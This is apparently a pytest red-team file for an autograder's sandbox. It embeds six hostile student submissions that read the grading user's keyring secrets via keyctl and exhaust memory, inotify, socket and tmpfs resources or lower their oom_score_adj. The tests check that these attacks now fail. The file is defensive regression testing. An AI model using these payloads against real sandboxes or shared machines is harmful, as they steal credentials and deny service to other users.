"""Red team 37: a worker against the bounds that stand in for cgroups without root (issue 37),
and what it shares with the user grading it, who as a user is the uid it runs as.

Each attack is a student's ``softmax.py`` that does its work in a worker, as the grading
process starts one (``Sandbox``). The source rule would refuse these files (they import
``os`` and ``ctypes``), and no guarantee rests on it ("The source rule, a second line", in
the README): the layers below it must hold for any code. Each runs twice, as the user running
the tests (root here: a sandbox uid, a cgroup) and as uid 65534 (``as_user``: user namespaces,
rlimits), each in a process of its own (``python tests/test_red_team_red37.py ATTACK``), whose
zygote starts afresh.

What each did before the fix, as uid 65534 (at d63756d, where this red team began, and at
4e1a685 alike):

- ``keyring``: the worker read a key from the session keyring its grading process had (a
  login's: pam_keyinit makes one, Kerberos may keep tickets there), and, by linking the
  user's own keyrings into its own, a key from the user keyring too; it raised them as its
  error message, which is the student's feedback: "ValueError: b'TICKET-...'". As root too,
  for the session keyring (the sandbox uid possessed it through the worker's inheritance).
- ``scratch``: 800 MiB of extended attributes stored in 2 s in a /dev/shm of 64 MiB, with
  ``--memory`` 0.25 GiB and a VmRSS of 23 MiB (MemAvailable fell by 1.7 GiB); 200,000 empty
  files took 97 MiB more in /tmp. Root's cgroup stopped it; a user's rlimits did not.
- ``vmsplice``: pages of the worker's memory put in pipes by reference, each holding its
  2 MiB huge page once unmapped: 60 pipes held 1.7 GiB (MemAvailable), VmRSS 23 MiB.
- ``oom``: the worker, and a child it forked, wrote 0 to their ``oom_score_adj`` (d63756d set
  1000, so that the kernel's out-of-memory killer takes a worker first; 4e1a685 set nothing):
  the grading process read 0 for both, and the killer would pick the largest process, a
  batch's grader maybe.
- ``inotify``: the worker held 128 inotify instances, the user's whole share (each user
  namespace's count is counted in the one above it): the grading user's own programs got
  "Too many open files" from ``inotify_init`` until it ended.
- ``sockets``: 120 socket pairs, each end's send buffer raised to the machine's most
  (``net.core.wmem_max``, 4 MiB here), queued 16 MiB a pair, 1.97 GB in all, in a worker
  whose ``--memory`` was 0.125 GiB. The README said these buffers were bounded by the
  descriptors alone; at the default size a pair holds 455 KiB here.

Since the seccomp filter allows only what an honest worker needs (issue 44,
``tests/test_syscalls.py``), ``vmsplice`` and ``sockets`` end at their first call: a worker
makes no pipe and no socket, as root or as a user.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

HERE = Path(__file__).resolve()
KIT = HERE.parents[1]
SECRET = "TICKET-0f7c2a"  # what the grading user keeps in a keyring
SYSCALLS = {  # add_key, keyctl, vmsplice
    "x86_64": (248, 250, 278),
    "aarch64": (217, 219, 75),
}

KEYRING = '''
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL, VMSPLICE = {syscalls}


def read(key):
    buffer = ctypes.create_string_buffer(4096)
    size = libc.syscall(KEYCTL, 11, key, buffer, 4096)  # KEYCTL_READ
    return buffer.raw[:size] if size >= 0 else None


def softmax(x, axis=-1):
    found = []
    # the session keyring this process inherited: search it
    key = libc.syscall(KEYCTL, 10, -3, b"user", b"krb5cc:instructor", 0)  # KEYCTL_SEARCH
    if key > 0:
        found.append(read(key))
    # every keyring this uid may see: link it into our own (we then possess it), read its keys
    with open("/proc/keys") as listing:
        keys = [line.split() for line in listing]
    for fields in keys:
        if fields[7] == "keyring":
            libc.syscall(KEYCTL, 8, int(fields[0], 16), -3)  # KEYCTL_LINK
    for fields in keys:
        if fields[7] == "user":
            found.append(read(int(fields[0], 16)))
    raise ValueError(repr([f for f in found if f]))
'''

SCRATCH = '''
import os

import numpy as np


def softmax(x, axis=-1):
    stored = files = 0
    value = b"x" * 65536
    for place in ("/dev/shm", "/tmp"):
        for n in range(24):  # 96 MiB of attributes, in all, where 128 MiB of space is all
            path = f"{place}/a{n}"
            try:
                os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600))
                for i in range(32):
                    os.setxattr(path, f"user.{i}", value)
                    stored += len(value)
            except OSError:
                break
    for n in range(20000):
        try:
            os.close(os.open(f"/tmp/f{n}", os.O_CREAT | os.O_WRONLY, 0o600))
            files += 1
        except OSError:
            break
    return np.array([stored, files], dtype=float)
'''

VMSPLICE = '''
import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL, VMSPLICE = {syscalls}
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                      ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
HUGE = 2 << 20


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def softmax(x, axis=-1):
    spliced = 0
    pipes = []
    for _ in range(24):  # 24 pipes of 16 huge pages: 768 MiB
        read, write = os.pipe()
        pipes.append((read, write))
        for _ in range(16):
            raw = libc.mmap(None, 2 * HUGE, 3, 0x22, -1, 0)  # private, anonymous
            page = (raw + HUGE - 1) // HUGE * HUGE
            libc.madvise(page, HUGE, 14)  # MADV_HUGEPAGE
            ctypes.memset(page, 1, HUGE)
            piece = Piece(page, 4096)
            if libc.syscall(VMSPLICE, write, ctypes.byref(piece), 1, 0) == 4096:
                spliced += 1
            libc.munmap(raw, 2 * HUGE)
    return np.array([spliced], dtype=float)
'''

OOM = '''
import os
import threading


def lower():
    try:
        with open("/proc/self/oom_score_adj", "w") as score:
            score.write("0")
    except OSError:
        pass


def softmax(x, axis=-1):
    if os.fork() == 0:
        lower()
        threading.Event().wait(60)  # a futex: the seccomp filter allows no other sleep
        os._exit(0)
    lower()
    threading.Event().wait(0.5)
    return x
'''

INOTIFY = '''
import ctypes

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
HELD = []


def softmax(x, axis=-1):
    while len(HELD) < 200:  # the user's limit here is 128, for all its processes together
        handle = libc.inotify_init()
        if handle < 0:
            break
        HELD.append(handle)
    return np.array([len(HELD)], dtype=float)
'''

SOCKETS = '''
import socket

import numpy as np

PAIRS = []


def softmax(x, axis=-1):
    queued = 0
    for _ in range(120):
        pair = socket.socketpair()
        PAIRS.append(pair)
        for end in pair:
            try:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            except OSError:
                pass
            end.setblocking(False)
            try:
                while True:
                    queued += end.send(bytes(65536))
            except BlockingIOError:
                pass
    return np.array([queued], dtype=float)
'''

ATTACKS = {"keyring": KEYRING, "scratch": SCRATCH, "vmsplice": VMSPLICE, "oom": OOM,
           "inotify": INOTIFY, "sockets": SOCKETS}


# -- the grading side: one attack, in a process of its own ------------------------------------
def _join_a_login_keyring() -> None:
    """Do as a login does (pam_keyinit): a session keyring of this process's own, holding a
    key, and one more key in the user keyring."""
    import ctypes

    add_key, keyctl, _ = SYSCALLS[os.uname().machine]
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(keyctl, 1, b"instructor-login") < 0:  # KEYCTL_JOIN_SESSION_KEYRING
        raise OSError(ctypes.get_errno(), "this kernel gives no keyring")
    for keyring in (-3, -4):  # the session keyring, the user keyring
        secret = SECRET.encode()
        assert libc.syscall(add_key, b"user", b"krb5cc:instructor", secret, len(secret),
                            keyring) > 0, os.strerror(ctypes.get_errno())


def attack(name: str) -> dict:
    """Grade ``ATTACKS[name]`` as one worker: what it returned or raised, and what the
    grading process reads of it from outside."""
    from grader.sandbox.errors import StudentError, WorkerLost
    from grader.sandbox.isolation import GiB, Limits, Sandbox

    if name == "keyring":
        try:
            _join_a_login_keyring()
        except OSError as error:
            return {"skip": str(error)}
    folder = Path(tempfile.mkdtemp(prefix="red37-"))
    os.chmod(folder, 0o755)
    source = ATTACKS[name].replace("{syscalls}", repr(SYSCALLS[os.uname().machine]))
    (folder / "softmax.py").write_text(source)
    os.chmod(folder / "softmax.py", 0o644)
    found: dict = {}
    limits = Limits(timeout=60, call=20, memory=GiB // 8)
    with Sandbox(folder, "softmax", framework="numpy", limits=limits) as sandbox:
        found["mode"] = sandbox.mode
        found["memory_group"] = bool(sandbox.group is not None
                                     and "memory" in sandbox.group.controllers)
        try:
            sandbox.request("load", functions=["softmax"], siblings={}, ops={},
                            framework="numpy", audited=False)  # the kernel's bounds alone
            value = sandbox.request("call", func="softmax", args=[[0.0, 0.0]], kwargs={})
            found["value"] = [float(v) for v in value]
        except StudentError as error:
            found["error"] = error.describe()
        except WorkerLost as lost:
            found["lost"] = lost.reason
        if name == "inotify":  # the grading user's own, while the worker holds its own
            import ctypes

            libc = ctypes.CDLL(None, use_errno=True)
            handle = libc.inotify_init()
            found["outside"] = "ok" if handle >= 0 else os.strerror(ctypes.get_errno())
            if handle >= 0:
                os.close(handle)
        if name == "sockets":
            found["default"] = int(Path("/proc/sys/net/core/wmem_default").read_text())
        if name == "oom":
            pid = sandbox.worker_pid()
            children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
            found["scores"] = [int(Path(f"/proc/{p}/oom_score_adj").read_text())
                               for p in [pid, *children]]
    return found


def _run(name: str, as_user: bool) -> dict:
    if as_user:
        import as_user as users

        reason = users.why_not()
        if reason is not None:
            pytest.skip(reason)
        kit = users.kit()
        done = kit.run(kit.python, "tests/test_red_team_red37.py", name, timeout=300)
    else:
        done = subprocess.run([sys.executable, str(HERE), name], cwd=KIT, capture_output=True,
                              text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    found = json.loads(done.stdout.splitlines()[-1])
    if "skip" in found:
        pytest.skip(found["skip"])
    return found


USERS = [pytest.param(False, id="this-user"), pytest.param(True, id="uid-65534")]
needs_arch = pytest.mark.skipif(os.uname().machine not in SYSCALLS,
                                reason="the attacks' system call numbers are x86_64's and "
                                       "aarch64's")


@needs_arch
@pytest.mark.parametrize("as_user", USERS)
def test_a_worker_reads_no_key_of_the_grading_user(as_user):
    found = _run("keyring", as_user)
    assert "error" in found, found
    assert SECRET not in found["error"], found  # "ValueError: [b'TICKET-0f7c2a', ...]"


@needs_arch
@pytest.mark.parametrize("as_user", USERS)
def test_scratch_space_holds_its_size_and_no_more(as_user):
    found = _run("scratch", as_user)
    if "lost" in found:  # a memory group stopped it: the kernel counted what it stored
        assert found["memory_group"] and "out of memory" in found["lost"], found
        return
    stored, files = found["value"]
    # /tmp and /dev/shm hold 64 MiB each of file data; attributes and entries are bounded by
    # the entries each may hold (4096, a KiB each in the kernel's count), not by the machine
    assert stored <= 16 << 20, found  # 96 MiB before, as a user: "100663296.0"
    assert files <= 4096, found  # 20000 before


@needs_arch
@pytest.mark.parametrize("as_user", USERS)
def test_pipes_hold_no_page_of_a_worker_by_reference(as_user):
    found = _run("vmsplice", as_user)
    # [384.0] before: 768 MiB held by 24 pipes; then [0.0] (vmsplice refused) where no memory
    # group counted them. The seccomp filter now allows no pipe at all, with a group or without
    assert found.get("error", "").startswith("PermissionError"), found
    assert "os.pipe()" in found["error"], found


@pytest.mark.parametrize("as_user", USERS)
def test_a_worker_stays_first_for_the_out_of_memory_killer(as_user):
    found = _run("oom", as_user)
    assert found.get("value") == [0.0, 0.0], found
    assert len(found["scores"]) == 2, found  # the worker and its child
    assert found["scores"] == [1000, 1000], found  # [0, 0] before, as a user


@pytest.mark.parametrize("as_user", USERS)
def test_a_worker_leaves_the_grading_user_its_inotify_instances(as_user):
    found = _run("inotify", as_user)
    assert found["outside"] == "ok", found  # "Too many open files" before, as a user


@pytest.mark.parametrize("as_user", USERS)
def test_sockets_hold_their_default_buffers_at_most(as_user):
    found = _run("sockets", as_user)
    # 16 MiB a pair before; then each end held what it sent up to the machine's default send
    # buffer where no memory group counted them. The seccomp filter now allows no new socket
    assert found.get("error", "").startswith("PermissionError"), found
    assert "socket.socketpair()" in found["error"], found


if __name__ == "__main__":  # one attack, graded in this process: its findings as JSON
    print(json.dumps(attack(sys.argv[1])))
